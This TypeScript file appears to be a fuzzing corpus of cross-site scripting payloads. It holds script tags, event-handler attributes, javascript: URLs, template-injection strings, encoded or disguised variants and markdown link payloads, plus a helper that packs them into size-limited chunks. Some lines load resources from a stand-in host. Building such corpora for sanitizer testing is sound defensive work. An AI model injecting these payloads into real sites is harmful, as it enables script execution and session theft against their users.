/*
 * Texts that become code where a page takes them for markup: what leaves the place that they stand in, what acts, and
 * how either may be disguised. Each sets `xss`, opens a dialog, or leaves an element of its own when it
 * comes through.
 */

/** Ends whatever a text may stand in. */
const EXITS = [
  '',
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</script>',
  '--></style>',
  ']]>',
  '\\">',
  '</p></div>',
];

const MARKUP = [
  '<script>xss=1</script>',
  '<ScRiPt >alert(1)</sCrIpT>',
  '<img src=x onerror=xss=1>',
  '<img/src/onerror=alert(1)//',
  '<svg/onload=xss=1>',
  '<svg><script>xss=1</script></svg>',
  '<body onload=alert(1)>',
  '<details open ontoggle=xss=1>x',
  '<input autofocus onfocus=alert(1)>',
  '<video src=x onerror=confirm(1)>',
  '<iframe src=javascript:top.xss=1>',
  '<iframe srcdoc="<script>top.xss=1</script>">',
  '<object data=javascript:alert(1)>',
  '<embed src=javascript:alert(1)>',
  '<base href=https://mechant.test/>',
  '<meta http-equiv=refresh content=0;url=javascript:alert(1)>',
  '<style>@import"https://mechant.test/a"</style>',
  '<link rel=stylesheet href=https://mechant.test/a>',
  '<math><mtext><x-ss onclick=alert(1)>x</x-ss>',
  '<form action=javascript:alert(1)><button autofocus>x',
];

/** For a text that stands in an attribute, a script, an address or a pattern rather than between tags. */
const ELSEWHERE = [
  '" onmouseover=alert(1) x="',
  "' onfocus=alert(1) autofocus '",
  '` onload=alert(1) `',
  '" style="background:url(https://mechant.test/a)',
  'x" srcset="x" onerror="xss=1',
  '";xss=1;//',
  "';alert(1);//",
  '\\";alert(1);//',
  '[[alert(1)]]',
  '`-alert(1)-`',
  '{{constructor.constructor("alert(1)")()}}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  '<!--<script>alert(1)//-->',
  '</script><script>xss=1//',
  '\\u2028xss=1//',
];

const DISGUISED = [
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '&#x3c;svg onload=alert(1)&#x3e;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '\\x3cimg src=x onerror=alert(1)\\x3e',
  '＜script＞alert(1)＜/script＞',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror="&#97;lert(1)">',
];

const MARKDOWN = [
  '[clic](javascript:alert(1))',
  '[clic](JaVaScRiPt:alert(1))',
  '[clic](java&#115;cript:alert(1))',
  '[clic](data:text/html,<script>alert(1)</script>)',
  '[clic](vbscript:msgbox(1))',
  '![x](javascript:alert(1))',
  '![x](x"onerror="alert(1))',
  '[clic](https://a" onmouseover="alert(1))',
  '[clic](<javascript:alert(1)>)',
  '<javascript:alert(1)>',
  '[<img src=x onerror=alert(1)>](https://exemple.org)',
  '**<svg onload=alert(1)>**',
  '# <img src=x onerror=alert(1)>',
  '- <script>alert(1)</script>',
  '`</code><script>alert(1)</script>`',
  'javascript:alert(1)',
  '//mechant.test/a',
];

export const PAYLOADS: readonly string[] = [
  ...EXITS.flatMap((exit) => MARKUP.map((markup) => exit + markup)),
  ...[...ELSEWHERE, ...DISGUISED, ...MARKDOWN],
];

/** All of them, in as few texts of `max` characters as they fit in, a line each. */
export function packed(max: number, between = '\n'): string[] {
  const texts: string[] = [];
  for (const payload of PAYLOADS) {
    const longer = `${texts.at(-1) ?? ''}${between}${payload}`;
    if (texts.length > 0 && longer.length <= max) texts[texts.length - 1] = longer;
    else texts.push(payload);
  }
  return texts;
}
